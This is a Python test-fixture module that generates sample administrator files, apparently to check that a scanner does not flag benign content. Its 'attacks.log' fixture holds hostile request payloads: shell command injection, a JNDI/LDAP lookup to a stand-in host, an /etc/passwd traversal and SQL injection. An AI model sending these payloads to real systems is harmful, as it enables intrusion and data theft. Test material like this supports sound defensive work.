"""What administrators and programmers send each other: scripts that do no harm, settings, logs, tables, keys."""

from __future__ import annotations

import datetime
from collections.abc import Iterator

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import pkcs7
from cryptography.x509.oid import NameOID

from bench.content import seeded, text
from tests.engines.starter_case import CERT, PS, WS_SHELL

_POWERSHELL = {
    "inventory.ps1": "Get-CimInstance Win32_Product | Select-Object Name, Version | Export-Csv -Path .\\soft.csv\n",
    "users.ps1": "param([string]$Path)\nImport-Csv $Path | ForEach-Object { New-ADUser -Name $_.Name -Enabled $true }\n",
    "download.ps1": "Invoke-WebRequest -Uri https://example.test/a.msi -OutFile a.msi\n"
    "if ((Get-FileHash a.msi).Hash -ne $Sum) { throw 'wrong sum' }\nStart-Process msiexec '/i a.msi /qn' -Wait\n",
    "profile.ps1": 'function prompt { "$env:USERNAME $(Get-Location)> " }\nSet-Alias ll Get-ChildItem\n',
    "service.ps1": "$ErrorActionPreference = 'Stop'\nGet-Service | Where-Object Status -eq 'Running' | Format-Table\n",
    "policy.ps1": "Set-ExecutionPolicy -Scope Process -ExecutionPolicy RemoteSigned\n. .\\build.ps1 -Configuration Release\n",
    "defender.ps1": "Update-MpSignature\nStart-MpScan -ScanType QuickScan\nSet-MpPreference -ScanScheduleDay Everyday\n",
    "encode.ps1": "$b = [Text.Encoding]::UTF8.GetBytes($args[0])\n[Convert]::ToBase64String($b)\n",
    "module.psm1": "function Get-Soup { [CmdletBinding()] param($Bowl) process { $Bowl | Measure-Object } }\n",
    "module.psd1": "@{ RootModule = 'Soup.psm1'; ModuleVersion = '1.0'; FunctionsToExport = @('Get-Soup') }\n",
}
_VBS = {
    "map-drives.vbs": 'Set n = CreateObject("WScript.Network")\nn.MapNetworkDrive "S:", "\\\\server\\share"\n',
    "hello.vbs": 'Option Explicit\nDim name\nname = InputBox("Name?")\nWScript.Echo "Hello " & name\n',
    "open.vbs": f'Set s = CreateObject("{WS_SHELL}")\ns.Run "notepad.exe readme.txt", 1, False\n',
    "environment.vbs": f'Set s = CreateObject("{WS_SHELL}")\nWScript.Echo s.ExpandEnvironmentStrings("%PATH%")\n',
    "files.vbs": 'Set f = CreateObject("Scripting.FileSystemObject")\nFor Each a In f.GetFolder(".").Files\nNext\n',
}
_BATCH = {
    "build.bat": "@echo off\r\nsetlocal\r\nset OUT=build\r\nif not exist %OUT% mkdir %OUT%\r\nmsbuild soup.sln /p:C=Release\r\n",
    "backup.cmd": "@echo off\r\nrobocopy C:\\data D:\\backup /mir /r:1\r\nif errorlevel 8 exit /b 1\r\n",
    "start.bat": f'@echo off\r\n{PS} -NoProfile -ExecutionPolicy Bypass -File "%~dp0setup.ps1"\r\n',
    "hash.bat": f"@echo off\r\n{CERT} -hashfile %1 SHA256\r\n{CERT} -store my\r\n",
    "shadow.bat": "vssadmin list shadows\r\nwmic shadowcopy list brief\r\n",
}
_SHELL = {
    "install.sh": "#!/bin/sh\nset -eu\ncurl -fsSL https://example.test/a.tgz | tar -xz -C /opt\nln -sf /opt/a/bin/a /usr/bin\n",
    "deploy.sh": "#!/usr/bin/env bash\nset -euo pipefail\nrsync -a --delete build/ web:/srv/www/\nssh web sudo nginx -s reload\n",
    "decode.sh": '#!/bin/sh\necho "$KEY" | base64 -d > key.bin\nopenssl enc -d -aes-256-cbc -in a.enc -out a\n',
    "entry.sh": '#!/bin/sh\n[ "$1" = serve ] && exec nginx -g \'daemon off;\'\nexec "$@"\n',
    "configure": "#! /bin/sh\n# Guess values for system-dependent variables and create Makefiles.\nas_nl='\n'\n"
    * 200,
    "cron": "0 3 * * * root /usr/local/bin/backup >/dev/null 2>&1\n",
}
_PROGRAMS = {
    "server.py": "import http.server, socketserver\n\n\ndef main() -> None:\n    socketserver.TCPServer(('', 80), None)\n",
    "notebook.py": "import subprocess\nimport base64\nexec(compile(open('a.py').read(), 'a.py', 'exec'))\n" * 9,
    "index.php": "<?php\nrequire 'vendor/autoload.php';\n$app = new App($_SERVER);\necho $app->run($_GET['page'] ?? 'home');\n",
    "upload.php": "<?php\nif (move_uploaded_file($_FILES['f']['tmp_name'], $to)) { echo htmlspecialchars($_POST['a']); }\n",
    "template.phtml": "<ul><?php foreach ($items as $item): ?><li><?= $item ?></li><?php endforeach; ?></ul>\n",
    "convert.php": "<?php\n$out = shell_exec('convert ' . escapeshellarg($file) . ' a.png');\n",
    "page.aspx": '<%@ Page Language="C#" %>\n<html><body><%= DateTime.Now %></body></html>\n',
    "page.jsp": '<%@ page contentType="text/html" %>\n<p><%= request.getParameter("name") %></p>\n',
    "Soup.java": "package soup;\npublic class Soup { public static void main(String[] a) { System.out.println(a[0]); } }\n",
    "Soup.cs": "using System;\nclass Soup { static void Main() { Console.WriteLine(Environment.MachineName); } }\n",
    "soup.c": '#include <stdio.h>\n#include <sys/mman.h>\nint main(void) { puts("soup"); return 0; }\n',
    "soup.go": 'package main\n\nimport "os/exec"\n\nfunc main() { exec.Command("ls").Run() }\n',
    "soup.rs": 'use std::process::Command;\nfn main() { Command::new("ls").status().unwrap(); }\n',
    "soup.rb": "require 'net/http'\nputs Net::HTTP.get(URI('https://example.test/'))\n",
    "soup.pl": "#!/usr/bin/perl\nuse strict;\nprint while <STDIN>;\n",
    "soup.lua": "local t = {}\nfor i = 1, 10 do t[i] = i end\nprint(#t)\n",
    "soup.r": "x <- c(1, 2, 3)\nplot(x)\n",
    "schema.sql": "CREATE TABLE soup (id INTEGER PRIMARY KEY, name TEXT);\nINSERT INTO soup VALUES (1, 'leek');\n"
    * 90,
    "Dockerfile": 'FROM debian:12\nRUN apt-get update && apt-get install -y curl\nCMD ["nginx"]\n',
    "workflow.yml": "on: push\njobs:\n  test:\n    runs-on: windows-latest\n    steps:\n      - run: pip install -e .\n",
    "deployment.yaml": "apiVersion: apps/v1\nkind: Deployment\nspec:\n  replicas: 3\n",
    "Makefile": "all: soup\nsoup: soup.o\n\tcc -o $@ $^\n.PHONY: all\n",
    "settings.ini": "[soup]\nbowl = 3\npath = C:\\Program Files\\Soup\n",
    "export.reg": 'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Soup]\r\n"Bowl"=dword:3\r\n',
    "soup.desktop": "[Desktop Entry]\nType=Application\nName=Soup\nExec=/usr/bin/soup %f\nIcon=soup\n",
    "web.url": "[InternetShortcut]\r\nURL=https://www.example.test/soup\r\n",
    "soup.service": "[Unit]\nDescription=Soup\n[Service]\nExecStart=/usr/bin/soup serve\n",
    "change.patch": "--- a/soup.c\n+++ b/soup.c\n@@ -1 +1 @@\n-int a;\n+int b;\n" * 40,
    "soup.inf": '[Version]\r\nSignature="$WINDOWS NT$"\r\nClass=Printer\r\n[Manufacturer]\r\n%A%=Soup\r\n',
    "paper.tex": "\\documentclass{article}\\begin{document}Soup\\input{bowl}\\end{document}\n",
    "rules.yar": 'rule soup { strings: $a = "soup" condition: $a }\n',
}


def bodies() -> Iterator[tuple[str, bytes]]:
    for table in (_POWERSHELL, _VBS, _BATCH, _SHELL, _PROGRAMS):
        for name, script in table.items():
            yield name, script.encode()
    yield "inventory-utf16.ps1", b"\xff\xfe" + _POWERSHELL["inventory.ps1"].encode("utf-16-le")
    yield from _tables()
    yield from _keys()


def _tables() -> Iterator[tuple[str, bytes]]:
    source = seeded(3)
    rows = [f"{n};{text(source, 20)};{source.random():.3f};=SUM(A{n}:B{n})\r\n" for n in range(3000)]
    yield "table.csv", "".join(rows).encode()
    yield "table.tsv", "".join(rows).replace(";", "\t").encode()
    yield "table-with-mark.csv", b"\xef\xbb\xbf" + "".join(rows).encode()
    request = '203.0.113.9 - - [21/Nov/2025:04:04:08 +0000] "GET /wp-login.php?a=%3Cscript%3E HTTP/1.1" 404 153 "-" "curl"\n'
    yield "access.log", request.encode() * 2000
    attempts = (
        "/cgi-bin/a?cmd=/bin/sh%20-c%20id",
        "/?x=${jndi:ldap://192.0.2.1/a}",
        "/a.php?f=../../etc/passwd",
        "/?q=' OR 1=1--",
    )
    lines = [f'192.0.2.7 - - "GET {attempt} HTTP/1.1" 400 0\n' for attempt in attempts]
    yield "attacks.log", "".join(lines).encode() * 300
    yield (
        "events.log",
        b"<13>Nov 21 04:04:08 host sshd[77]: Failed password for root from 192.0.2.1 port 22 ssh2\n" * 900,
    )
    command = f"EventID 4688 New Process Name: C:\\Windows\\System32\\{PS}.exe Creator: explorer.exe\r\n"
    yield "audit.log", command.encode() * 500
    yield "words.txt", text(source, 90_000).encode()
    yield "umlauts.txt", ("Zwölf Boxkämpfer jagen Viktor quer über den großen Sylter Deich. " * 200).encode()
    yield "japanese.txt", ("吾輩は猫である。名前はまだ無い。\n" * 200).encode()
    yield "japanese-sjis.txt", ("吾輩は猫である。名前はまだ無い。\n" * 200).encode("shift-jis")
    yield "cyrillic.txt", ("Съешь ещё этих мягких французских булок.\n" * 200).encode("cp1251")
    yield "sums.sha256", b"".join(b"%064x  file-%d.bin\n" % (n * 7919**9, n) for n in range(900))
    yield "hexadecimal.txt", seeded(4).randbytes(9000).hex().encode()


def _keys() -> Iterator[tuple[str, bytes]]:
    key = ec.derive_private_key(123456789, ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "example.test")])
    start = datetime.datetime(2025, 1, 1, tzinfo=datetime.UTC)
    certificate = (
        x509.CertificateBuilder(name, name, key.public_key(), 1, start, start + datetime.timedelta(days=365))
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    pem, der = serialization.Encoding.PEM, serialization.Encoding.DER
    yield "certificate.pem", certificate.public_bytes(pem)
    yield "bundle.pem", certificate.public_bytes(pem) * 120
    yield "certificate.der", certificate.public_bytes(der)
    yield "chain.p7b", pkcs7.serialize_certificates([certificate], der)
    yield "chain.p7c", pkcs7.serialize_certificates([certificate], pem)
    public = key.public_key()
    yield "public.pem", public.public_bytes(pem, serialization.PublicFormat.SubjectPublicKeyInfo)
    yield (
        "known_hosts",
        b"example.test " + public.public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH),
    )
    request = x509.CertificateSigningRequestBuilder().subject_name(name).sign(key, hashes.SHA256())
    yield "request.csr", request.public_bytes(pem)
    revoked = x509.CertificateRevocationListBuilder(name, start, start + datetime.timedelta(days=9))
    yield "revoked.crl", revoked.sign(key, hashes.SHA256()).public_bytes(der)
    armoured = b"-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\nsoup\n-----BEGIN PGP SIGNATURE-----\n\n"
    yield "signed.asc", armoured + b"iQIzBAEBCAAdFiEE" + b"A" * 60 + b"\n=abcd\n-----END PGP SIGNATURE-----\n"
